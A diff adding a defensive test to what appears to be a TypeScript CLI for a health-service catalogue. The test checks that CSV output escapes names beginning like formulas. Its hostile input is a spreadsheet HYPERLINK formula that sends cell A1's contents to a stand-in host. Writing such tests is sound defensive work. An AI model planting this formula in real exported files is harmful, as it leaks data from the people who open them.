@@ -5,6 +5,9 @@
  * every candidate when they name several, and a name of the wrong kind gets
  * the command that answers.
  */
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
 import { loadCatalog } from '../src/catalog/load-catalog';
 import { CATALOG, runCli } from './helpers';
 
@@ -155,4 +158,21 @@ describe('a name too long to be one', () => {
     expect(second?.['clientele']?.id).toBe('podiatre');
     expect(out.code).toBe(2);
   });
+});
+
+test('CSV: a catalogue name that starts like a formula comes out as text in every CSV answer', () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ramq-csv-'));
+  try {
+    const file = path.join(dir, 'catalog.yaml');
+    const text = fs.readFileSync(CATALOG, 'utf8').replace('    name: Podiatre\n', '    name: "=HYPERLINK(\\"http://x.example/?q=\\"&A1,\\"go\\")"\n');
+    fs.writeFileSync(file, text);
+    for (const argv of [['services', 'podiatre'], ['who', 'selat'], ['can', 'podiatre', 'selat'], ['list', 'clienteles'], ['show', 'podiatre'], ['matrix']]) {
+      const out = runCli([...argv, '--format', 'csv', '--catalog', file], {}, false, '');
+      expect({ argv, code: out.code === 0 || out.code === 1 }).toEqual({ argv, code: true });
+      // Every cell that holds the name starts with the apostrophe, never with "=".
+      expect({ argv, raw: /(^|,)"?=HYPERLINK/m.test(out.stdout) }).toEqual({ argv, raw: false });
+    }
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
 });
